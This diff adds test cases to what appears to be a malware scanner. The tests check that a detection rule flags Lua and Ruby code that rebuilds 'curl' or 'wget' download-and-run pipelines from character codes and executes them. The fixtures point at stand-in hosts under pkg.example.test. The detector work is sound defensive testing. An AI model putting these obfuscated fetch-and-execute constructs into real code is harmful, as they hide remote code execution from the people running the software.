@@ -32,3 +32,29 @@ def test_a_download_handle_read_as_data_does_not_block(tmp_path: Path) -> None:
         '    open("layout.json", "wb").write(raw)\n'
     )
     assert blocking(tmp_path, {"setup.py": code}) == {}
+
+
+# ------------------------------------------------ a command line written as character codes, any language
+
+
+def _codes(text: str) -> str:
+    return ", ".join(str(ord(c)) for c in text)
+
+
+def test_a_download_and_run_written_as_character_codes_in_lua_blocks(tmp_path: Path) -> None:
+    code = (
+        "local function s(t) local r = '' for _, c in ipairs(t) do r = r .. string.char(c) end return r end\n"
+        f"local line = s({{{_codes('wget -qO- http://pkg.example.test/u.sh | bash')}}})\n"
+        "os.execute(line)\n"
+    )
+    assert "SY-OBF-009" in blocking(tmp_path, {"plugin/init.lua": code})
+
+
+def test_a_download_and_run_written_as_character_codes_in_ruby_blocks(tmp_path: Path) -> None:
+    code = f"system([{_codes('curl -s https://pkg.example.test/x | sh')}].pack('c*'))\n"
+    assert "SY-OBF-009" in blocking(tmp_path, {"lib/hook.rb": code})
+
+
+def test_character_codes_that_spell_a_greeting_do_not_block(tmp_path: Path) -> None:
+    code = f"local t = {{{_codes('hello from the player, enjoy')}}}\nprint(string.char(table.unpack(t)))\n"
+    assert blocking(tmp_path, {"plugin/init.lua": code}) == {}
